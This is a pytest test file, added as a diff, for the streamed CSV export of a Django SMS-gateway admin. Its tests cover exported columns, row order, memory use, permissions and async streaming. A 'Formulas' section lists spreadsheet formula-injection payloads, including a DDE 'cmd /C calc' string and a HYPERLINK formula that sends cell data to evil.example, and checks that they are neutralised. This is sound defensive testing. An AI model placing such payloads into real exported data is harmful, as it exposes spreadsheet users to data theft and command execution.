@@ -1,0 +1,245 @@
+"""Lists as CSV: complete, at constant memory, and harmless to spreadsheets."""
+
+import csv
+import tracemalloc
+from collections.abc import AsyncIterator
+from io import StringIO
+from typing import Any, cast
+
+import pytest
+from asgiref.sync import async_to_sync
+from django.contrib.auth.models import User
+from django.db import connection
+from django.test import AsyncClient, Client
+from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
+
+from cellcast_django.admin import export
+from cellcast_django.admin.export import harmless
+from cellcast_django.factories import MessageFactory, WebhookEventFactory
+from cellcast_django.models import Message
+from cellcast_django.testing import WebhookClient
+from tests.admin_pages import CUSTOMER, ID, fill, listed, page_of, staff, url_of
+
+pytestmark = pytest.mark.django_db
+
+
+def file_of(client: Client, model: str, **query: Any) -> str:
+    response: Any = client.get(url_of(model, "export", **query))
+    assert response.status_code == 200
+    return b"".join(response.streaming_content).decode()
+
+
+def rows_of(client: Client, model: str, **query: Any) -> list[dict[str, str]]:
+    return list(csv.DictReader(StringIO(file_of(client, model, **query).removeprefix("\ufeff"))))
+
+
+def test_messages_are_exported_with_all_that_is_known(reader: Client) -> None:
+    message = MessageFactory.create(
+        cellcast_id=ID, receiver=CUSTOMER, delivered=True, body='Line "one",\nline two'
+    )
+    Message.objects.update(created_at="2024-08-09T06:37:50Z")
+
+    [row] = rows_of(reader, "message")
+
+    assert row == {
+        "id": str(message.pk),
+        "created_at": "2024-08-09T16:37:50+10:00",  # in Sydney
+        "direction": "outbound",
+        "contact": CUSTOMER,
+        "status": "delivered",
+        "status_changed_at": timezone.localtime(message.status_changed_at).isoformat(),
+        "submitted_at": "2024-08-09T16:37:47+10:00",
+        "body": 'Line "one",\nline two',
+        "original_body": "",
+        "cellcast_id": ID,
+        "sender": "cellcast",
+        "receiver": CUSTOMER,
+    }
+
+
+def test_events_are_exported_with_what_became_of_them(reader: Client) -> None:
+    failed = WebhookEventFactory.create(failed=True)
+    invalid = WebhookEventFactory.create(invalid=True)
+
+    last, first = rows_of(reader, "webhookevent")
+
+    assert [last["id"], first["id"]] == [str(invalid.pk), str(failed.pk)]
+    assert (first["announcement"], first["failing_handlers"]) == ("failed", "shop.handlers.confirm")
+    assert first["message_id"] == str(failed.message_id)
+    assert first["body"] == failed.body
+    assert (last["outcome"], last["error"]) == ("invalid", "There is no message id.")
+    assert (last["announcement"], last["announced_at"]) == ("", "")
+
+
+def test_file_is_one_that_spreadsheets_open(reader: Client) -> None:
+    MessageFactory.create(body="نعم 😀")
+
+    response: Any = reader.get(url_of("message", "export"))
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    today = timezone.localdate().isoformat()
+    assert response["Content-Disposition"] == f'attachment; filename="messages-{today}.csv"'
+    content = b"".join(response.streaming_content)
+    assert content.startswith(b'\xef\xbb\xbf"id","created_at"')
+    assert content.endswith(b'"\r\n')
+    assert "نعم 😀" in content.decode()
+
+
+def test_link_on_the_list_keeps_filters_and_search_but_no_page(reader: Client) -> None:
+    page = page_of(reader, "message", direction="inbound", q="0400 000 001", p=1)
+
+    url = url_of("message", "export", direction="inbound", q="0400 000 001")
+    assert f'href="{url.replace("&", "&amp;")}">Export these as CSV<' in page
+    assert "Export these" in page_of(reader, "webhookevent")
+    assert "Export these" not in page_of(reader, "statuschange")
+
+
+@pytest.mark.parametrize(
+    ("model", "query"),
+    [
+        ("message", {}),
+        ("message", {"direction": "inbound"}),
+        ("message", {"status": "failed", "period": 7}),
+        ("message", {"answer": "none"}),
+        ("message", {"q": "0400 000 007"}),
+        ("webhookevent", {}),
+        ("webhookevent", {"outcome": "duplicate"}),
+        ("webhookevent", {"outcome": "announced", "kind": "status"}),
+        ("webhookevent", {"outcome": "pending"}),
+    ],
+)
+def test_file_has_all_rows_of_the_list_in_its_order(
+    reader: Client, monkeypatch: pytest.MonkeyPatch, model: str, query: dict[str, Any]
+) -> None:
+    monkeypatch.setattr(export, "CHUNK_SIZE", 7)
+    fill(70)
+    shown = [pk for page in (1, 2) for pk in listed(reader, model, **query, p=page)]
+
+    assert [int(row["id"]) for row in rows_of(reader, model, **query)] == list(dict.fromkeys(shown))
+
+
+def test_rows_of_the_same_moment_are_neither_lost_nor_repeated(
+    reader: Client, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "CHUNK_SIZE", 3)
+    moment = timezone.now()
+    pks = [MessageFactory.create(created_at=moment).pk for _ in range(10)]
+
+    assert [int(row["id"]) for row in rows_of(reader, "message")] == pks[::-1]
+
+
+def test_address_that_means_nothing_leads_to_the_list(reader: Client) -> None:
+    response = reader.get(url_of("message", "export", nonsense="1"))
+
+    assert response.status_code == 302
+    assert response["Location"] == url_of("message", e=1)
+
+
+@pytest.mark.parametrize("model", ["message", "webhookevent"])
+def test_file_is_for_those_who_may_view_the_list(model: str) -> None:
+    url = url_of(model, "export")
+
+    assert staff("view_statuschange").get(url).status_code == 403
+    assert Client().get(url).status_code == 302
+    assert staff(f"view_{model}").get(url).status_code == 200
+
+
+# Formulas
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        '=HYPERLINK("https://evil.example","click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "  =1+1",
+        "\uff1d1+1",
+        "+",
+        "+61400000000,=1",
+        "+\u0660",
+    ],
+)
+def test_formula_is_made_a_text(text: str) -> None:
+    assert harmless(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["", "YES", "1+1=2", "+61400000000", "0400 000 000", "'", "a=b"])
+def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
+    assert harmless(text) == text
+
+
+def test_formula_of_a_customer_arrives_as_a_text(reader: Client, client: WebhookClient) -> None:
+    client.reply(message='=HYPERLINK("https://evil.example?"&A1,"Yes")', sender="=1+1")
+
+    [row] = rows_of(reader, "message")
+
+    assert row["body"] == '\'=HYPERLINK("https://evil.example?"&A1,"Yes")'
+    assert (row["contact"], row["sender"]) == ("'=1+1", "'=1+1")
+    [event] = rows_of(reader, "webhookevent")
+    assert event["contact"] == "'=1+1"
+
+
+# What it costs
+
+
+def test_memory_and_queries_of_a_chunk_do_not_depend_on_how_much_follows(reader: Client) -> None:
+    def peak(model: str) -> int:
+        response: Any = reader.get(url_of(model, "export"))
+        tracemalloc.start()
+        for _ in response.streaming_content:
+            pass
+        _, highest = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+        return highest
+
+    fill(2_000)
+    peak("message")  # what is loaded once
+    few = peak("message"), peak("webhookevent")
+    fill(6_000)
+
+    many = peak("message"), peak("webhookevent")
+    assert all(after < 1.5 * before for before, after in zip(few, many, strict=True))
+
+
+def test_file_takes_a_query_a_chunk(reader: Client, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "CHUNK_SIZE", 10)
+    fill(50)
+    response: Any = reader.get(url_of("webhookevent", "export"))
+
+    with CaptureQueriesContext(connection) as captured:
+        lines = len(b"".join(response.streaming_content).splitlines())
+
+    assert lines == 51
+    assert len(captured) == 6
+    assert all("COUNT" not in query["sql"] for query in captured)
+
+
+@pytest.mark.django_db(transaction=True)
+def test_file_is_streamed_under_asgi_too(
+    client: WebhookClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "CHUNK_SIZE", 1)
+    client.reply(message="one")
+    client.reply(message="two")
+    user = User.objects.create_superuser("admin")
+    asynchronous = AsyncClient()
+    asynchronous.force_login(user)
+
+    async def download() -> list[str]:
+        response: Any = await asynchronous.get(url_of("message", "export"))
+        assert response.is_async
+        parts = cast("AsyncIterator[bytes]", response.streaming_content)
+        return [part.decode() async for part in parts]
+
+    heading, second, first = async_to_sync(download)()
+
+    assert heading.startswith('\ufeff"id"')
+    assert '"two"' in second
+    assert '"one"' in first
